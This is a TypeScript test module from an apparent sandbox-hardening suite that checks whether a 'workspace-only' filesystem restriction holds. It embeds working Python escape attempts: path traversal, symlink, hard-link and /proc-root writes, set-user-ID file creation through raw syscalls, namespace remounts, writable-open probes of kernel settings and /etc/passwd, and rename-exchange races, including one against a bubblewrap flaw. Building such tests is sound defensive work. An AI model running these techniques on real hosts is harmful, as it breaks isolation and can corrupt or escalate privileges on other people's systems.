import { chmod, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { messageOf } from "@ambit/core/plugin";
import { untouched } from "../decoys/decoys.js";
import {
  commandOf,
  type ProgramOptions,
  runCommand,
  runProgram,
  textOf,
  waitForLine,
} from "../programs/run-program.js";
import { repetitions } from "../repetitions.js";
import {
  type Attack,
  type AttackOutcome,
  blocked,
  impossible,
  notRun,
  reached,
  type Stage,
} from "./attack.js";
import { outcomeOf, programAttack } from "./program-attack.js";

/** What was changed in the decoys' folder, as the host sees it; restored afterwards. */
export async function damage({ decoys }: Stage): Promise<string | undefined> {
  const { path, victimFile, secretFile } = decoys.folder;
  const known = new Set([victimFile, secretFile, decoys.unixPath].map((one) => one.slice(path.length + 1)));
  const present = await readdir(path);
  const added = present.filter((name) => !known.has(name));
  await Promise.all(added.map((name) => rm(join(path, name), { recursive: true, force: true })));
  const victim = present.includes(victimFile.slice(path.length + 1))
    ? await readFile(victimFile, "utf8")
    : undefined;
  if (victim !== untouched) {
    await writeFile(victimFile, untouched);
    // If it was recreated, its mode depends on the process's umask.
    await chmod(victimFile, 0o666);
  }
  if (victim === undefined) return "the victim was removed";
  if (victim !== untouched) return "the victim was written";
  return added.length > 0 ? `files were created next to the victim (${added.length})` : undefined;
}

const victim = ({ decoys }: Stage) => ({ path: decoys.folder.victimFile, folder: decoys.folder.path });

export const write = `
def write(path, flags=os.O_WRONLY):
    descriptor = os.open(path, flags, 0o666)
    os.write(descriptor, P["nonce"].encode())
    os.close(descriptor)
    return None  # The host says whether it arrived.
`;

const outsideAttacks = [
  programAttack({
    id: "filesystem.workspace-only/anywhere",
    title: "create a file in a folder other than the workspace, a home or scratch",
    parameters: ({ sandbox, decoys }) => ({
      own: [sandbox.workspace, sandbox.home],
      folder: decoys.folder.path,
    }),
    // Created empty, and removed at once.
    program: `
own = [os.path.realpath(path) for path in P["own"] + [os.environ.get("HOME", "/tmp"), os.environ.get("TMPDIR", "/tmp")]]
shared = ["/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/proc", "/sys", "/run/lock", "/run/user"]
def outside(folder):
    real = os.path.realpath(folder)
    return not any(real == top or real.startswith(top + "/") for top in own + shared) or real.startswith(P["folder"])
def made(folder):
    path = os.path.join(folder, "made-" + P["nonce"])
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    os.unlink(path)
    return "made a file in " + folder
def folders():
    yield P["folder"]
    for top, names, _ in os.walk("/"):
        yield top
        if top.count("/") > 2 or not outside(top):
            names[:] = []
def anywhere():
    failure = None
    for folder in filter(outside, folders()):
        try:
            return made(folder)
        except OSError as error:
            failure = error
    raise failure
attempt("create", anywhere)`,
  }),
  programAttack({
    id: "filesystem.workspace-only/by-path",
    title: "write a file of the host by its path",
    parameters: victim,
    aftermath: damage,
    program: `${write}
attempt("open", lambda: write(P["path"]))
attempt("proc root", lambda: write("/proc/self/root" + P["path"]))
attempt("parents", lambda: write("../" * 40 + P["path"].lstrip("/")))`,
  }),
  programAttack({
    id: "filesystem.workspace-only/create",
    title: "create files, folders, links, sockets and pipes outside the workspace",
    parameters: victim,
    aftermath: damage,
    program: `${write}
place = lambda name: os.path.join(P["folder"], name + "-" + P["nonce"])
attempt("file", lambda: write(place("file"), os.O_WRONLY | os.O_CREAT))
attempt("folder", lambda: os.mkdir(place("folder")))
attempt("link", lambda: os.symlink("/", place("link")))
attempt("pipe", lambda: os.mkfifo(place("pipe")))
attempt("socket", lambda: socket.socket(socket.AF_UNIX).bind(place("s")[:100]))`,
  }),
  programAttack({
    id: "filesystem.workspace-only/remove",
    title: "remove, rename or exchange a file of the host",
    parameters: victim,
    aftermath: damage,
    program: `
attempt("rename out", lambda: os.rename(P["path"], P["path"] + "-moved"))
attempt("unlink", lambda: os.unlink(P["path"]))
def into():
    open("mine-" + P["nonce"], "w").close()
    os.rename("mine-" + P["nonce"], P["path"])
attempt("rename in", into)`,
  }),
  programAttack({
    id: "filesystem.workspace-only/symlink",
    title: "write a file of the host through a symbolic link in the workspace",
    parameters: victim,
    aftermath: damage,
    program: `${write}
def through(target, rest=""):
    link = "link-%d" % time.monotonic_ns()
    os.symlink(target, link)
    return write(link + rest)
attempt("file", lambda: through(P["path"]))
attempt("folder", lambda: through(P["folder"], "/" + os.path.basename(P["path"])))`,
  }),
  programAttack({
    id: "filesystem.workspace-only/hard-link",
    title: "write a file of the host through a hard link in the workspace",
    parameters: victim,
    aftermath: damage,
    program: `${write}
def linked():
    failure = None
    for folder in (os.getcwd(), P["folder"]):
        link = os.path.join(folder, "link-" + P["nonce"])
        try:
            os.link(P["path"], link)
            return write(link)
        except OSError as error:
            failure = error
    raise failure
attempt("link", linked)`,
  }),
  programAttack({
    id: "filesystem.workspace-only/other-roots",
    title: "write a file of the host through the roots of other processes",
    parameters: victim,
    aftermath: damage,
    program: `${write}
def anywhere():
    for place in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        for path in (place + P["path"], place + "/" + "../" * 20 + P["path"]):
            try:
                write(path)
            except OSError:
                continue
attempt("roots", anywhere)`,
  }),
] as const;

export const kernelAttacks = [
  programAttack({
    id: "filesystem.workspace-only/set-id",
    stoppedBy: ["system call filter"],
    title: "leave a set-user-ID program in the workspace",
    parameters: ({ sandbox }) => ({ folder: sandbox.workspace }),
    // Each file is empty and removed at once.
    program: `
N = {
    "x86_64": {"chmod": 90, "fchmod": 91, "fchmodat": 268, "fchmodat2": 452, "creat": 85, "open": 2, "openat": 257,
               "mknod": 133, "mknodat": 259, "openat2": 437},
    "aarch64": {"fchmod": 52, "fchmodat": 53, "fchmodat2": 452, "openat": 56, "mknodat": 33, "openat2": 437},
}[os.uname().machine]
HERE, CREATE, TEMPORARY, REGULAR = -100, os.O_CREAT | os.O_WRONLY, os.O_TMPFILE | os.O_WRONLY, stat.S_IFREG
def left(name, mode, given):
    path = os.path.join(P["folder"], "set-id-%d" % time.monotonic_ns())
    arguments = [path.encode() if one == "path" else P["folder"].encode() if one == "folder" else one for one in given]
    descriptor = None
    try:
        if name.endswith("chmod") or name.startswith("fchmodat"):
            descriptor = os.open(path, CREATE, 0o755)
            arguments = [descriptor if one == "descriptor" else one for one in arguments]
        result = syscall(N[name], *arguments)
        if name.startswith(("creat", "open")):
            descriptor = result
        found = os.fstat(descriptor) if descriptor is not None else os.stat(path)
        return found.st_mode & mode and "%s made a file of mode %o" % (name, found.st_mode & 0o7777)
    finally:
        if descriptor is not None:
            os.close(descriptor)
        if os.path.lexists(path):
            os.unlink(path)
for bit in (0o4000, 0o2000):
    mode = bit | 0o755
    how = struct.pack("QQQ", CREATE, mode, 0)
    calls = [("chmod", "path", mode), ("fchmod", "descriptor", mode), ("fchmodat", HERE, "path", mode),
             ("fchmodat2", HERE, "path", mode, 0), ("creat", "path", mode), ("open", "path", CREATE, mode),
             ("open", "folder", TEMPORARY, mode), ("openat", HERE, "path", CREATE, mode),
             ("openat", HERE, "folder", TEMPORARY, mode), ("mknod", "path", REGULAR | mode, 0),
             ("mknodat", HERE, "path", REGULAR | mode, 0), ("openat2", HERE, "path", how, len(how))]
    for name, *given in calls:
        if name in N:
            attempt("%s %o" % (name, bit), lambda: left(name, bit, given))`,
  }),
  programAttack({
    id: "filesystem.workspace-only/remount",
    stoppedBy: ["system call filter", "refusal of nested user namespaces", "hidden host files"],
    title: "remount everything as writable",
    needs: "unprivileged user namespaces",
    parameters: ({ decoys }) => ({ path: decoys.folder.victimFile, folder: decoys.folder.path }),
    aftermath: damage,
    // Always in a new mount namespace: the host's own mounts are never changed, not even unguarded.
    program: `${write}
def remount():
    check(libc.unshare(0x10000000 | 0x00020000))
    for target in (b"/", P["folder"].encode()):
        libc.mount(None, target, None, 32 | 4096, None)
    return write(P["path"])
attempt("unshare and remount", remount)`,
  }),
  programAttack({
    id: "filesystem.workspace-only/kernel-settings",
    title: "open a kernel setting of the host for writing",
    needs: "a user who may set it",
    asRoot: true,
    // Only opened and closed: nothing is ever written, whichever user runs this.
    program: `
def opened(path):
    os.close(os.open(path, os.O_WRONLY))
    return "opened " + path + " for writing"
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname",
             "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/sys/fs/binfmt_misc/register"):
    attempt(path, lambda: opened(path))
for path in glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/cgroup.procs"):
    attempt(path, lambda: opened(path))
if os.path.exists("/sys/kernel/uevent_helper"):
    attempt("uevent", lambda: opened("/sys/kernel/uevent_helper"))`,
  }),
  programAttack({
    id: "filesystem.workspace-only/runtime-files",
    title: "open the host's programs and settings for writing",
    needs: "a user who may write them",
    asRoot: true,
    // Only opened and closed: nothing is ever written, whichever user runs this.
    program: `
def opened(path):
    os.close(os.open(path, os.O_WRONLY))
    return "opened " + path + " for writing"
for path in ("/usr/bin/env", "/usr/lib/os-release", "/etc/passwd", "/etc/hosts", "/etc/ld.so.cache"):
    attempt(path, lambda: opened(path))`,
  }),
] as const;

/** How many processes are started while the first one exchanges the path under them. */
const launches = repetitions({ short: 120, soak: 2_000 });
/** Launches after which something must have opened the workspace, if launches do that at all. */
const firstLaunches = 10;

/**
 * CVE-2026-87766: bubblewrap before 0.12 follows links in the path that it mounts on, with the host's tree still at
 * `/oldroot`. A process that is already inside exchanges a listed path for such a link while the next process's sandbox
 * is made. The path is listed but doesn't exist yet, so the first process's own sandbox has no mount that pins it.
 */
const launchRace: Attack = {
  id: "filesystem.workspace-only/exchange-under-a-launch",
  stoppedBy: ["rules for all jails that live", "second bubblewrap"],
  capability: "filesystem.workspace-only",
  title: "exchange a listed path for a link to the host while another process's sandbox is made",
  alone: true,
  // Measured: without a guard, a launch loses with a chance of about 1 in 10, also on a busy host.
  controlTries: 5,
  perform: async (stage) => {
    const sandbox = await stage.openAnother({ filesystem: { mode: "workspace", readable: ["late"] } });
    const parameters = { base: sandbox.workspace, folder: stage.decoys.folder.path };
    const racing = await sandbox.spawn(commandOf(race, parameters, { role: "agent" }));
    const began = await waitForLine(racing.stdout, "RACING");
    const { ran, happened, isIdle } = await launchAll(stage, sandbox);
    await racing.stdin.close().catch(() => undefined); // It may have ended by itself; its output shows why.
    const [stdout, stderr, exit] = await Promise.all([
      textOf(racing.stdout),
      textOf(racing.stderr),
      racing.exit,
    ]);
    if (happened !== undefined) return reached(happened);
    const outcome = outcomeOf({ stdout: `RAN\n${began ?? ""}\n${stdout}`, stderr, ...exit });
    // Nothing is shown about a launch that looks for nothing in the workspace.
    if (outcome.detail.includes(" 0 exchanges")) return impossible("no launch opened the workspace");
    if (isIdle) return notRun(`the exchanges began late: ${outcome.detail}`);
    return outcome.result === "reached"
      ? blocked(`${launches} launches stayed inside (${ran} of them ran; ${outcome.detail})`)
      : outcome;
  },
};

async function launchAll(
  stage: Stage,
  sandbox: Stage["sandbox"],
): Promise<{ readonly ran: number; readonly happened: string | undefined; readonly isIdle?: boolean }> {
  let ran = 0;
  for (let round = 0; round < launches; round++) {
    try {
      const { code } = await runCommand(sandbox, { argv: ["/bin/sh", "-c", ":"], env: {} });
      if (code === 0) ran++;
    } catch (error) {
      // A refused launch counts like one that stays inside: the host's files show the outcome.
      if (messageOf(error).includes("didn't end within")) throw error;
    }
    const happened = await damage(stage);
    if (happened !== undefined) return { ran, happened: `${happened}, in launch ${round + 1}` };
    if (round + 1 === firstLaunches && !(await hasExchanged(sandbox)))
      return { ran, happened: undefined, isIdle: true };
  }
  return { ran, happened: undefined };
}

/** Says so after its first exchange, within two seconds: a busy host may delay it. */
async function hasExchanged(sandbox: Stage["sandbox"]): Promise<boolean> {
  const path = `${sandbox.workspace}/exchanged`;
  for (let look = 0; look < 20; look++) {
    const isThere = await sandbox.readFile(path).then(
      () => true,
      () => false,
    );
    if (isThere) return true;
    await delay(100);
  }
  return false;
}

/**
 * Opening the workspace for the next launch is the signal (inotify). The link then takes the file's place in one call
 * (RENAME_EXCHANGE) and gives it back, each after a random time in the order of a launch's: so that the check sees the
 * file and the mount the link, also where a busy host makes a launch longer. The link leads to its target through
 * others, which makes each look-up longer.
 */
const race = `
import random, select
number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
IN_OPEN, IN_NONBLOCK = 0x20, 0x800
os.chdir(P["base"])
with open("late", "w") as file:
    file.write("the run's own")
length = 24
for index in range(length):
    os.symlink("link-%d" % (index + 1), "link-%d" % index)
os.symlink("link-0", "link")
watch = check(libc.inotify_init1(IN_NONBLOCK))
check(libc.inotify_add_watch(watch, b".", IN_OPEN))
exchanges = launches = 0
def exchange():
    global exchanges
    syscall(number, -100, b"late", -100, b"link", 2)
    exchanges += 1
def target():
    name = "link-%d" % length
    if os.path.lexists(name):
        os.unlink(name)
    os.symlink("/oldroot%s/made-%d" % (P["folder"], launches), name)
def signalled(seconds):
    ready = select.select([watch, 0], [], [], seconds)[0]
    if watch in ready:
        os.read(watch, 65536)
    return ready
def swap():
    global launches
    while True:
        target()
        ready = signalled(None)
        if 0 in ready:
            return "%d exchanges in %d launches" % (exchanges, launches)
        longest = random.choice((0.01, 0.02, 0.08))
        time.sleep(random.uniform(0, longest))
        exchange()
        time.sleep(random.uniform(0.001, longest))
        exchange()
        signalled(0)
        if launches == 0:
            open("exchanged", "w").close()
        launches += 1
say("RACING")
attempt("exchange", swap)
`;

const denied = ".git/hooks/pre-commit";
const original = "the owner's own";

/** Denied paths within the workspace. */
const listAttacks = [
  deniedFile("write", "write a denied file", "write"),
  deniedFile("replace", "remove or replace a denied file", "replace"),
  deniedFile("move-above", "move a parent folder of a denied file away and recreate it", "move"),
  deniedFile("link", "write a denied file through a hard link next to it", "link"),
  listedPathReplaced("denied"),
  listedPathReplaced("writable"),
] as const;

function deniedFile(slug: string, title: string, action: string): Attack {
  return {
    id: `filesystem.workspace-only/denied-${slug}`,
    stoppedBy: ["path rules"],
    capability: "filesystem.workspace-only",
    title,
    perform: async (stage) => {
      const sandbox = await stage.openAnother({
        filesystem: { mode: "workspace", denied: [denied.split("/").slice(0, 2).join("/")] },
      });
      const path = `${sandbox.workspace}/${denied}`;
      await sandbox.writeFiles([{ path, content: original }]);
      const ran = outcomeOf(
        await runProgram(sandbox, `${changes}\nattempt("${action}", ${action})`, { path }),
      );
      const now = await contentOf(sandbox, path);
      if (now !== original) return reached(`it now holds: ${now.slice(0, 60)}`);
      return ran.result === "not-run" ? ran : blocked(ran.detail);
    },
  };
}

async function contentOf(sandbox: Stage["sandbox"], path: string): Promise<string> {
  return sandbox.readFile(path).then(
    (bytes) => new TextDecoder().decode(bytes),
    (error: unknown) => `nothing (${messageOf(error)})`,
  );
}

const changes = `
path = P["path"]
folder = os.path.dirname(path)
above = os.path.dirname(folder)
def put(where):
    with open(where, "w") as file:
        file.write("changed " + P.get("nonce", ""))
def write():
    put(path)
def replace():
    os.unlink(path)
    put(path)
def move():
    os.rename(above, above + "-old")
    os.makedirs(folder)
    put(path)
def link():
    os.link(path, os.path.join(os.path.dirname(above), "beside"))
    put(os.path.join(os.path.dirname(above), "beside"))
`;

/**
 * A listed path is mounted again for each process: between two of them its folder becomes a link to the host. A backend
 * that mounts by name exposes the link's target.
 */
function listedPathReplaced(list: "denied" | "writable"): Attack {
  return {
    id: `filesystem.workspace-only/${list}-path-replaced`,
    stoppedBy: ["path rules", "hidden host files"],
    capability: "filesystem.workspace-only",
    title: `replace a folder above a ${list} path by a link to the host between two processes`,
    perform: async (stage) => {
      const { decoys, openAnother } = stage;
      const name = decoys.folder.victimFile.slice(decoys.folder.path.length + 1);
      const lists =
        list === "denied" ? { denied: [`area/spot/${name}`] } : { writable: ["area", `area/spot/${name}`] };
      const sandbox = await openAnother({ filesystem: { mode: "workspace", ...lists } });
      const parameters = {
        area: `${sandbox.workspace}/area`,
        spot: `${sandbox.workspace}/area/spot`,
        name,
        target: decoys.folder.path,
        secret: decoys.folder.secretFile,
      };
      await sandbox.writeFiles([{ path: `${parameters.area}/kept.txt`, content: "the run's own" }]);
      const planted = outcomeOf(await runProgram(sandbox, plantLink, parameters));
      if (planted.result === "not-run") return planted;
      return enter(stage, sandbox, parameters);
    },
  };
}

async function enter(
  stage: Stage,
  sandbox: Stage["sandbox"],
  parameters: object,
  options?: ProgramOptions,
): Promise<AttackOutcome> {
  try {
    const ran = outcomeOf(await runProgram(sandbox, throughLink, parameters, options));
    const happened = await damage(stage);
    return happened === undefined ? ran : reached(happened);
  } catch (error) {
    // Refusing to start a process because of a manipulated path also counts as blocked.
    return blocked(`no process was started: ${messageOf(error)}`);
  }
}

const plantLink = `
def plant():
    if os.path.lexists(P["spot"]):
        os.rename(P["spot"], P["spot"] + "-aside")
    os.symlink(P["target"], P["spot"])
    return "the link is in place"
attempt("link", plant)
`;

const throughLink = `
def read():
    return content(os.path.join(P["spot"], P["name"])) and "the host's file can be read"
def write():
    with open(os.path.join(P["spot"], P["name"]), "w") as file:
        file.write("changed")
attempt("read", read)
attempt("write", write)
`;

/** The runner writes files into the workspace on the run's behalf, and must not follow links outside. */
const runnerAttacks = [linkForTheRunner(), exchangeUnderTheRunner()] as const;

function linkForTheRunner(): Attack {
  return {
    id: "filesystem.workspace-only/link-for-the-runner",
    stoppedBy: ["no-follow file access"],
    capability: "filesystem.workspace-only",
    title: "make the runner write a file of the host through a link in the workspace",
    perform: async (stage) => {
      const { sandbox } = stage;
      const planted = outcomeOf(await runProgram(sandbox, plant, places(stage)));
      if (planted.result !== "reached") return planted;
      for (const rest of [
        "file-link",
        `folder-link/${victimName(stage)}`,
        "folder-link/new-file",
        "new-link",
      ]) {
        // A refusal counts like a write that stays inside: the host's files show the outcome.
        await sandbox
          .writeFiles([{ path: `${sandbox.workspace}/${rest}`, content: "changed" }])
          .catch(() => undefined);
        const happened = await damage(stage);
        if (happened !== undefined) return reached(`${rest}: ${happened}`);
      }
      return blocked("the runner followed none of the links");
    },
  };
}

const attempts = 300;

function exchangeUnderTheRunner(): Attack {
  return {
    id: "filesystem.workspace-only/exchange-under-the-runner",
    stoppedBy: ["no-follow file access"],
    capability: "filesystem.workspace-only",
    title: "exchange a folder for a link to the host while the runner writes into it",
    alone: true,
    perform: async (stage) => {
      const { sandbox } = stage;
      const swapping = await sandbox.spawn(commandOf(exchange, places(stage)));
      const began = await waitForLine(swapping.stdout, "SWAPPING");
      let happened: string | undefined;
      for (let round = 0; round < attempts && happened === undefined; round++) {
        const path = `${sandbox.workspace}/spot/${victimName(stage)}`;
        await sandbox.writeFiles([{ path, content: `round ${round}` }]).catch(() => undefined);
        happened = await damage(stage);
      }
      await swapping.stdin.close().catch(() => undefined); // It may have ended by itself; its output shows why.
      const [stdout, stderr, exit] = await Promise.all([
        textOf(swapping.stdout),
        textOf(swapping.stderr),
        swapping.exit,
      ]);
      if (happened !== undefined) return reached(happened);
      const ran = outcomeOf({ stdout: `RAN\n${began ?? ""}\n${stdout}`, stderr, ...exit });
      return ran.result === "reached" ? blocked(`${attempts} writes stayed inside`) : ran;
    },
  };
}

function places({ sandbox, decoys }: Stage) {
  return { base: sandbox.workspace, folder: decoys.folder.path, file: decoys.folder.victimFile };
}

function victimName({ decoys }: Stage): string {
  return decoys.folder.victimFile.slice(decoys.folder.path.length + 1);
}

const plant = `
def plant():
    for name, target in (("file-link", P["file"]), ("folder-link", P["folder"]), ("new-link", P["folder"] + "/new")):
        os.symlink(target, os.path.join(P["base"], name))
    return "the links are in place"
attempt("links", plant)
`;

const exchange = `
import select
number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
os.chdir(P["base"])
os.mkdir("spot")
os.symlink(P["folder"], "link")
say("SWAPPING")
rounds = 0
def swap():
    global rounds
    while not select.select([0], [], [], 0)[0]:
        for _ in range(64):
            syscall(number, -100, b"spot", -100, b"link", 2)
            rounds += 1
    return "%d exchanges" % rounds
attempt("exchange", swap)
`;

export const filesystemWorkspaceOnly = [
  ...outsideAttacks,
  ...kernelAttacks,
  ...runnerAttacks,
  ...listAttacks,
  launchRace,
] as const;
